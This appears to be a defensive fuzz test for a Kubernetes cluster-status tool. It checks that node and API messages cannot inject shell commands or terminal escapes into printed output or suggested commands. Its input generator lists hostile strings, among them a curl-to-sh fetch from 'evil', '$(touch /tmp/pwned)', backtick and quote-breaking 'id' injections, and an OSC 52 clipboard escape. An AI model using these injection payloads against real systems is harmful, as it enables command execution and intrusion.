/** Nodes and tenants may say anything: none of it acts on the terminal or on the shell of who reads the status. */
import { execFileSync } from "node:child_process";
import fc from "fast-check";
import { expect, test } from "vitest";
import { drainAnnotation } from "../node/remote/scripts.ts";
import { parseNodes } from "./answers.ts";
import { digest } from "./digest.ts";
import { judge } from "./judge.ts";
import { print } from "./print.ts";
import { object, Situation } from "./testing/fixtures.ts";

const evil = fc
  .oneof(
    fc.string({ unit: "binary" }),
    fc.string({ unit: fc.constantFrom(..."a '\"$`\\;&|()<>\n\r\u001b\u0007\u009b\u202e".split("")), minLength: 1 }),
    fc.constantFrom(
      "x;curl${IFS}evil|sh",
      "$(touch /tmp/pwned)",
      "`id`",
      "a' ; id ; '",
      "\u001b]52;c;aWQ=\u0007",
      "pulumi\nOK",
    ),
  )
  .map((text) => text.replaceAll("\0", "").toWellFormed());

/** The commands that a problem says to type. */
const commandsOf = (todo: string): string[] => {
  if (/^bin\//.test(todo)) return [todo];
  return [...todo.matchAll(/`((?:[^`'"\\]|\\.|'[^']*'|"[^"]*")*)`/g)].map(([, command]) => command!);
};

test("whatever a node, a holder of the lock or a refusal says", { timeout: 120_000 }, () => {
  const said = fc.record({ problem: evil, holder: evil, message: evil, silence: evil, drained: evil, name: evil });
  fc.assert(
    fc.property(said, ({ problem, holder, message, silence, drained, name }) => {
      const situation = new Situation()
        .say("dev-worker-1", { problems: [`pod ${problem} is not Ready`, problem], osVersion: problem })
        .sayAll({ lock: { holders: [{ id: holder, node: null, since: null }], drainedSeconds: {} } })
        .silence("dev-worker-2");
      const node = object("dev-worker-3", "198.18.0.16") as {
        metadata: { annotations?: Record<string, string> };
        status: { conditions: { status: string; message: string }[] };
      };
      node.metadata.annotations = { [drainAnnotation]: drained };
      Object.assign(node.status.conditions[0]!, { status: "False", message });
      situation.objects.splice(5, 1, ...parseNodes(JSON.stringify({ items: [node] })));
      const api = situation.answers.api as { refusals: unknown; readiness: unknown };
      api.readiness = [silence, null, null];
      api.refusals = [
        { write: "a Node", message, by: { kind: "resourcequota", name, namespace: name, silentWebhook: 0 } },
      ];
      const status = judge(digest(situation.answers));
      expect(status.problems.length).toBeGreaterThan(3);
      expect(print(status)).toMatch(/^[\P{Cc}\n]*$/u);
      expect(print(status)).not.toMatch(/\p{Cf}/u);
      for (const { todo } of status.problems)
        for (const command of commandsOf(todo)) {
          // The shell that a person types it into makes words of it, and runs nothing else.
          const words = execFileSync("sh", ["-c", `printf '%s\\0' ${command}`], { encoding: "utf8" }).split("\0");
          expect(words[0], todo).toMatch(/^(bin\/(ssh|kubectl|pulumi)|npm)$/);
          expect(words.join(" ")).not.toMatch(/uid=\d/);
        }
    }),
    { numRuns: 60 },
  );
});
